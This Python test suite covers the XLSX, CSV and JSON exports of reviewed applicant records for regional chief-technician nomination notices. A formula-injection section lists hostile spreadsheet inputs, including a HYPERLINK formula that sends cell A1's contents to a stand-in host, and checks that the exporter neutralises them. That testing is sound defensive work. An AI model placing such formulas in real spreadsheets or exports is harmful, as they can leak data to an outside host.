"""The exports of reviewed records: the notices' summary tables as XLSX and CSV, and the JSON list."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json

import openpyxl
import pytest

from models.idnumber import id_check_digit
from models.profile import get_profile, load_profiles
from models.report import (
    APPLICANT_FIELDS,
    Applicant,
    Competition,
    CompetitionCategory,
    Field,
    Honor,
    PacketReport,
    PacketStatus,
    Scope,
)
from review.evidence import summary_comparison
from review.export import (
    UNMATCHED_TITLE,
    neutralize,
    summary_table,
    summary_tables,
    table_title,
    to_csv,
    to_json,
    to_xlsx,
)
from review.records import VERDICT_LABELS, Correction, ReviewedRecord, Verdict
from tests import factories

ID_BODY = "51050219780512003"
ID_NUMBER = ID_BODY + id_check_digit(ID_BODY)  # born 1978-05-12
AT = dt.datetime(2024, 5, 6, 9, 30, tzinfo=dt.UTC)

COMPETITION = Competition(
    year=2016,
    scope=Scope.PROVINCIAL,
    category=CompetitionCategory.CLASS1,
    event="焊接",
    rank=1,
    raw="2016年四川省职业技能竞赛焊接项目第一名",
)
HONOR = Honor(title="四川省技术能手", year=2017, raw="2017年获四川省技术能手")

VALUES = {
    "name": "王建国",
    "gender": "男",
    "birth_month": "1978-05",
    "id_number": ID_NUMBER,
    "education": "大专",
    "work_start": "1996-07",
    "employer": "泸州北方化学工业有限公司",
    "occupation": "焊工",
    "qualification_level": "高级技师",
    "qualification_date": "2015-06",
    "phone": "13980001234",
    "recommending_unit": "泸州市经济和信息化局",
}


def read(value: str | None) -> Field | None:
    return None if value is None else Field(value=value, confidence=0.9, page=0, bbox=None, raw=value)


def reviewed(
    values: dict[str, str | None] | None = None,
    *,
    profile: str | None = "luzhou-2019",
    corrections: dict[str, str | None] | None = None,
    verdict: Verdict | None = None,
    note: str | None = None,
    competitions: tuple[Competition, ...] = (COMPETITION,),
    honors: tuple[Honor, ...] = (HONOR,),
    source: str = "王建国.pdf",
) -> ReviewedRecord:
    """A record of a report read with ``values`` (the defaults above), then corrected by a reviewer."""
    fields = VALUES if values is None else values
    report = PacketReport(
        packet_id=hashlib.sha256(source.encode()).hexdigest(),
        source=source,
        profile=profile,
        status=PacketStatus.OK,
        applicant=Applicant(
            **{key: read(value) for key, value in fields.items()},
            competitions=list(competitions),
            honors=list(honors),
        ),
    )
    return ReviewedRecord(
        packet_id=report.packet_id,
        source=source,
        profile=profile,
        report=report,
        corrections={
            key: Correction(original=fields.get(key), value=value, reason="与身份证核对", actor="reviewer1", at=AT)
            for key, value in (corrections or {}).items()
        },
        verdict=verdict,
        verdict_note=note,
    )


def column(headers: list[str], rows: list[list[str]], header: str) -> list[str]:
    index = headers.index(header)
    return [row[index] for row in rows]


# --- records -------------------------------------------------------------------------------------------------------


def test_a_correction_wins_over_the_report() -> None:
    record = reviewed(corrections={"name": "王建华", "phone": None})
    assert record.value("name") == "王建华"
    assert record.original("name") == "王建国"
    assert record.value("phone") is None  # the reviewer cleared it
    assert record.value("employer") == VALUES["employer"]
    assert record.value("ethnicity") is None  # never read


def test_an_unknown_field_key_is_refused() -> None:
    with pytest.raises(KeyError, match="nickname"):
        reviewed().value("nickname")


# --- summary tables ------------------------------------------------------------------------------------------------


def test_luzhou_table_has_its_headers_and_reviewed_values() -> None:
    profile = get_profile("luzhou-2019")
    records = [
        reviewed(corrections={"name": "王建华"}, verdict=Verdict.APPROVED),
        reviewed({**VALUES, "name": "李四", "qualification_date": None}, source="李四.pdf"),
    ]
    headers, rows = summary_table(profile, records)
    assert headers == [column.header for column in profile.summary_table]
    assert len(rows) == 2 and all(len(row) == len(headers) for row in rows)
    assert column(headers, rows, "推荐排序") == ["1", "2"]
    assert column(headers, rows, "姓名") == ["王建华", "李四"]
    assert column(headers, rows, "身份证号") == [ID_NUMBER, ID_NUMBER]
    assert column(headers, rows, "推荐单位") == [VALUES["recommending_unit"]] * 2
    assert column(headers, rows, "现职业资格及取得时间") == ["高级技师 2015-06", "高级技师"]
    assert column(headers, rows, "主要工作经历") == ["", ""]


def test_every_profile_writes_a_full_row() -> None:
    record = reviewed(verdict=Verdict.REJECTED)
    for profile in load_profiles().values():
        headers, rows = summary_table(profile, [record])
        assert len(rows[0]) == len(headers) == len(profile.summary_table)
        assert rows[0][headers.index("姓名")] == "王建国"


def test_competitions_honours_and_verdict() -> None:
    repeated = Competition.model_validate(COMPETITION.model_dump() | {"raw": " " + COMPETITION.raw})
    record = reviewed(
        competitions=(COMPETITION, repeated), verdict=Verdict.NEEDS_MATERIAL, note="缺少职业资格证书复印件"
    )
    headers, rows = summary_table(get_profile("shizhong-2020"), [record])
    assert column(headers, rows, "技能竞赛获奖情况") == [COMPETITION.raw]  # once, though read twice
    assert column(headers, rows, "获得荣誉情况") == [HONOR.raw]
    assert column(headers, rows, "资格审查结果") == ["需补充材料：缺少职业资格证书复印件"]
    assert column(headers, rows, "备注") == [""]

    headers, rows = summary_table(get_profile("wenzhou-7"), [record])
    assert column(headers, rows, "技能大赛获奖和获得先进荣誉称号情况") == [f"{COMPETITION.raw}\n{HONOR.raw}"]

    undecided = reviewed(verdict=None)
    headers, rows = summary_table(get_profile("chongqing-bayu"), [undecided])
    assert column(headers, rows, "市人力社保局意见") == [""]
    assert set(VERDICT_LABELS) == set(Verdict)


def test_age_is_counted_on_the_reference_date() -> None:
    profile = get_profile("shizhong-2020")  # reference date 2020-12-30
    assert profile.reference_date == dt.date(2020, 12, 30)
    invalid_id = ID_NUMBER[:-1] + ("0" if ID_NUMBER[-1] != "0" else "1")
    records = [
        reviewed(),  # from the ID number: born 1978-05-12
        reviewed({**VALUES, "id_number": invalid_id, "birth_month": "1970-06"}),  # from 出生年月
        reviewed({**VALUES, "id_number": None, "birth_month": "1970-12"}),  # the month of the reference date
        reviewed({**VALUES, "id_number": None, "birth_month": None}),
        reviewed(corrections={"id_number": None, "birth_month": "1960-01"}),  # corrections count
    ]
    headers, rows = summary_table(profile, records)
    assert column(headers, rows, "年龄") == ["42", "50", "49或50", "", "60"]


def test_records_are_grouped_by_notice() -> None:
    records = [
        reviewed(source="a.pdf"),
        reviewed(profile="wenzhou-7", source="b.pdf"),
        reviewed(profile=None, source="c.pdf"),
        reviewed(source="d.pdf"),
        reviewed(profile="nowhere-2030", source="e.pdf"),
    ]
    tables = summary_tables(records)
    assert [title for title, _, _ in tables] == [
        "泸州市首席技师申报人员基本情况汇总表",
        "温州市第七轮首席技师推荐人选情况一览表",
        UNMATCHED_TITLE,
    ]
    assert [len(rows) for _, _, rows in tables] == [2, 1, 2]
    luzhou_headers, luzhou_rows = tables[0][1], tables[0][2]
    assert column(luzhou_headers, luzhou_rows, "推荐排序") == ["1", "2"]
    unmatched_headers = tables[2][1]
    assert "身份证号码" in unmatched_headers
    assert table_title(get_profile("chongqing-bayu")) == get_profile("chongqing-bayu").notice


# --- XLSX ----------------------------------------------------------------------------------------------------------


def test_xlsx_reads_back_as_the_table() -> None:
    profile = get_profile("luzhou-2019")
    headers, rows = summary_table(profile, [reviewed(), reviewed({**VALUES, "name": "李四"}, source="李四.pdf")])
    data = to_xlsx([(table_title(profile), headers, rows)])
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["泸州市首席技师申报人员基本情况汇总表"]
    sheet = workbook.active
    assert sheet is not None
    assert sheet["A1"].value == "泸州市首席技师申报人员基本情况汇总表"
    read_back = [
        [cell if cell is not None else "" for cell in row] for row in sheet.iter_rows(min_row=2, values_only=True)
    ]
    assert read_back == [headers, *rows]
    assert all(cell.font.bold for cell in sheet[2])
    assert sheet.freeze_panes == "A3"
    for letter in ("A", "F", "M"):
        assert sheet.column_dimensions[letter].width >= 6


def test_xlsx_keeps_id_numbers_as_exact_text() -> None:
    digits_only = "330302198001011230"
    assert id_check_digit(digits_only[:17]) == digits_only[-1]
    headers, rows = summary_table(get_profile("wenzhou-7"), [reviewed({**VALUES, "id_number": digits_only})])
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([("温州", headers, rows)]))).active
    assert sheet is not None
    cell = sheet.cell(row=3, column=headers.index("身份证号码") + 1)
    assert cell.value == digits_only
    assert cell.data_type == "s"
    assert cell.number_format == "@"
    phone = sheet.cell(row=3, column=headers.index("手机") + 1)
    assert phone.value == VALUES["phone"] and phone.data_type == "s"


def test_xlsx_sheet_names_are_valid_and_unique() -> None:
    long_title = "某某市第七轮首席技师推荐人选情况一览表：[汇总]/附件*?" + "很长" * 20
    tables = [(long_title, ["姓名"], [["甲"]]), (long_title, ["姓名"], [["乙"]]), ("history", ["姓名"], [])]
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(tables)))
    names = workbook.sheetnames
    assert len(names) == 3 and len({name.lower() for name in names}) == 3
    for name in names:
        assert 0 < len(name) <= 31
        assert not set(name) & set("[]:*?/\\")
        assert name.lower() != "history"
    # The full title is kept above the table.
    assert workbook[names[0]]["A1"].value == long_title
    assert workbook[names[1]]["A3"].value == "乙"


def test_an_empty_export_is_still_a_workbook() -> None:
    assert openpyxl.load_workbook(io.BytesIO(to_xlsx([]))).sheetnames


# --- formula injection ---------------------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "＝1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralised(text: str) -> None:
    assert neutralize(text) == "'" + text
    record = reviewed(corrections={"employer": text}, source="hostile.pdf")
    headers, rows = summary_table(get_profile("luzhou-2019"), [record])
    where = headers.index("工作单位")

    parsed = list(csv.reader(io.StringIO(to_csv(headers, rows).decode("utf-8-sig"), newline="")))
    assert parsed[1][where] == "'" + text

    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([("t", headers, rows)]))).active
    assert sheet is not None
    cell = sheet.cell(row=3, column=where + 1)
    assert cell.data_type == "s"
    assert cell.value == "'" + text.replace("\r", "\n")  # XLSX stores line ends as LF


def test_harmless_text_is_left_alone() -> None:
    for text in ("王建国", "2016年四川省职业技能竞赛焊接项目第一名", "13980001234", "", "'quoted", "a=b"):
        assert neutralize(text) == text


def test_xlsx_never_writes_error_or_control_cells() -> None:
    headers, rows = ["姓名", "备注"], [["#N/A", "甲\x07乙"]]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([("t", headers, rows)]))).active
    assert sheet is not None
    assert sheet["A3"].value == "#N/A" and sheet["A3"].data_type == "s"
    assert sheet["B3"].value == "甲乙"


# --- CSV -----------------------------------------------------------------------------------------------------------


def test_csv_has_a_bom_crlf_and_round_trips() -> None:
    record = reviewed(
        competitions=(COMPETITION, Competition.model_validate(COMPETITION.model_dump() | {"raw": "第二条"}))
    )
    headers, rows = summary_table(get_profile("shizhong-2020"), [record, reviewed(source="b.pdf")])
    data = to_csv(headers, rows)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 3  # header and two rows; the LF inside a quoted cell is not a line end
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert parsed == [headers, *rows]
    assert "\n" in parsed[1][headers.index("技能竞赛获奖情况")]


# --- JSON ----------------------------------------------------------------------------------------------------------


def test_json_round_trip() -> None:
    records = [
        reviewed(corrections={"name": "王建华"}, verdict=Verdict.REJECTED, note="年龄超过规定"),
        reviewed(profile=None, source="b.pdf"),
    ]
    data = to_json(records)
    assert "王建华".encode() in data  # written as-is, not \\u-escaped
    loaded = json.loads(data.decode("utf-8"))
    assert isinstance(loaded, list) and len(loaded) == 2
    first = loaded[0]
    assert first["packet_id"] == records[0].packet_id
    assert first["source"] == "王建国.pdf"
    assert first["profile"] == "luzhou-2019"
    assert first["verdict"] == "rejected"
    assert first["verdict_label"] == "不通过"
    assert first["verdict_note"] == "年龄超过规定"
    assert set(first["fields"]) == set(APPLICANT_FIELDS)
    assert first["fields"]["name"] == {
        "value": "王建华",
        "original": "王建国",
        "corrected": True,
        "reason": "与身份证核对",
        "corrected_by": "reviewer1",
        "corrected_at": AT.isoformat(),
    }
    assert first["fields"]["id_number"]["value"] == ID_NUMBER
    assert first["fields"]["ethnicity"] == {
        "value": None,
        "original": None,
        "corrected": False,
        "reason": None,
        "corrected_by": None,
        "corrected_at": None,
    }
    assert [Competition.model_validate(item) for item in first["competitions"]] == [COMPETITION]
    assert [Honor.model_validate(item) for item in first["honors"]] == [HONOR]
    assert loaded[1]["verdict"] is None and loaded[1]["profile"] is None


def test_the_summary_comparison_shows_the_applicants_row_on_every_sheet() -> None:
    record = reviewed()
    form_name = VALUES["name"]
    form_id = VALUES["id_number"]

    def row(page: int, employer: str) -> Applicant:
        return Applicant(
            name=factories.read(form_name, page),
            id_number=factories.read(form_id, page),
            employer=factories.read(employer, page),
        )

    other = Applicant(name=factories.read("李四", 2), id_number=factories.read("510502198001010011", 2))
    # The 一览表 (page 2) agrees with the form; the 汇总表 (page 3) names another employer.
    record.report.summary_rows = [other, row(2, VALUES["employer"] or ""), row(3, "泸州北方化学工业集团有限公司")]
    compared = summary_comparison(record)
    employer = [c for c in compared if c.key == "employer"]
    assert [(c.page, c.differs) for c in employer] == [(2, False), (3, True)]
